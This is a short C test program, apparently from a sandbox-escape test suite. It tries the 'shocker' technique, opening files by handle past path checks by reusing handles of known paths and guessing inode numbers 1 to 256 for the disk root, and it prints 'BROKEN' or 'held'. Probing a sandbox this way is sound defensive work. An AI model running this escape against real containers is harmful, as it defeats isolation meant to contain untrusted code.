// attack: Opens files by handle past every path check ("shocker"): handles of existing files, and guessed ones for the root of the disk.
// expect: Completed

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

struct handle { struct file_handle h; unsigned char bytes[MAX_HANDLE_SZ]; };

int main(void) {
    static const char *const places[] = { "/", "/work", "/tmp", "/etc", "/usr", "/proc", "/dev/null", "/bin/sh" };
    int broken = 0, mounts = 0;
    for (int i = 0; i < 8; i++) {
        int mount = open(places[i], O_RDONLY);
        if (mount < 0) continue;
        mounts++;
        struct handle own;
        memset(&own, 0, sizeof own);
        own.h.handle_bytes = MAX_HANDLE_SZ;
        int id;
        if (name_to_handle_at(AT_FDCWD, places[i], &own.h, &id, 0) == 0) {
            int fd = open_by_handle_at(mount, &own.h, O_RDONLY);
            if (fd >= 0) { printf("BROKEN: %s opened by its handle\n", places[i]); broken = 1; close(fd); }
        }
        for (uint32_t inode = 1; inode <= 256; inode++) { /* 2 is the root of ext4, 64 to 128 that of XFS, 256 that of btrfs */
            struct handle guess;
            memset(&guess, 0, sizeof guess);
            guess.h.handle_bytes = 8;
            guess.h.handle_type = 1; /* FILEID_INO32_GEN */
            memcpy(guess.h.f_handle, &inode, sizeof inode);
            int fd = open_by_handle_at(mount, &guess.h, O_RDONLY);
            if (fd >= 0) { printf("BROKEN: inode %u of the disk below %s opened\n", inode, places[i]); broken = 1; close(fd); }
        }
        close(mount);
    }
    if (mounts == 0) { puts("BROKEN: could not try: no folder could be opened"); return 0; }
    if (!broken) puts("held");
    return 0;
}
